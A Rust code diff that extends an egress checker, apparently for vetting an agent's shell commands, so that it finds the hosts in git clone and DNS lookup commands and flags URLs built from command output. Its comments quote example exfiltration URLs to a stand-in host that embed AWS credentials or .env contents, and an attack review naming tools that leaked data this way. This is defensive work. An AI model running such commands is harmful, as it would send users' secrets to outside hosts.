@@ -10,17 +10,29 @@ pub(super) fn destinations(prog: &str, args: &[String]) -> Vec<String> {
     let mut out: Vec<String> = args.iter().filter_map(|a| url_host(a)).collect();
     match prog {
         "git" => {
-            // `git push [REMOTE] …` (and `fetch`, `pull`, `ls-remote`): the word after the
-            // subcommand; none is the default remote.
-            let remote_taking = ["push", "fetch", "pull", "ls-remote"];
-            if let Some(p) = plain
+            // `git push|fetch|pull|ls-remote [REMOTE] …`: the word after the subcommand;
+            // none is the default remote. `git clone SOURCE`: its URL's or `HOST:PATH`'s host,
+            // else a path or name nobody opened (attack review 43: a clone, fetch or
+            // ls-remote of `https://evil.example/<data>` sends the data in its name).
+            let sub = |name: &str| plain.iter().position(|a| *a == name);
+            if let Some(p) = ["push", "fetch", "pull", "ls-remote"]
                 .iter()
-                .position(|a| remote_taking.contains(&a.as_str()))
+                .find_map(|s| sub(s))
             {
                 match plain.get(p + 1) {
                     Some(r) if url_host(r).is_none() => out.push((*r).clone()),
                     Some(_) => {}
                     None => out.push("the default remote".to_string()),
+                }
+            } else if let Some(p) = sub("clone").or_else(|| sub("add")) {
+                match plain.get(p + 1) {
+                    Some(r) if url_host(r).is_none() => match r.split_once(':') {
+                        Some((h, _)) if !h.contains('/') && !h.is_empty() => {
+                            out.push(h.rsplit('@').next().unwrap_or(h).to_lowercase());
+                        }
+                        _ => out.push((*r).clone()),
+                    },
+                    _ => {}
                 }
             }
         }
@@ -38,6 +50,11 @@ pub(super) fn destinations(prog: &str, args: &[String]) -> Vec<String> {
             if let Some(h) = plain.first() {
                 out.push(h.rsplit('@').next().unwrap_or(h).to_lowercase());
             }
+        }
+        // `getent hosts NAME`, `resolvectl query NAME`: the names after the database or
+        // verb (any of them, and an unknown one, is looked up by the resolver).
+        "getent" | "resolvectl" | "systemd-resolve" => {
+            out.extend(plain.iter().skip(1).map(|a| a.to_lowercase()));
         }
         _ => {
             // curl, wget: a bare host argument.
@@ -112,4 +129,24 @@ pub(super) fn merge(egress: Vec<Egress>) -> Option<Egress> {
         first.destinations.extend(e.destinations);
     }
     Some(first)
+}
+
+/// A URL whose text is only partly known when the call is decided (`"https://evil.example/$(base64
+/// -w0 ~/.aws/credentials)"`, `https://$(cat .env)@h/`): whatever program is given it, the
+/// command builds a network name from data, which a request, a resolver or a log at the other
+/// end receives (attack review 43: `git ls-remote`, `pip download`, `xdg-open`, `ffmpeg -i`,
+/// `aria2c` of such a URL were allowed, exit 0, in a session that had read nothing). Its
+/// destination: the host when that part is literal, else unknown (empty). `pieces` is the
+/// word's text with each unknown part as `\0`; `None` for a word that is not such a URL.
+pub(super) fn built_url(pieces: &str) -> Option<Vec<String>> {
+    let (_, rest) = pieces.split_once("://")?;
+    if !rest.contains('\0') {
+        return None;
+    }
+    let host = url_host(pieces)?;
+    Some(if host.contains('\0') {
+        Vec::new()
+    } else {
+        vec![host]
+    })
 }
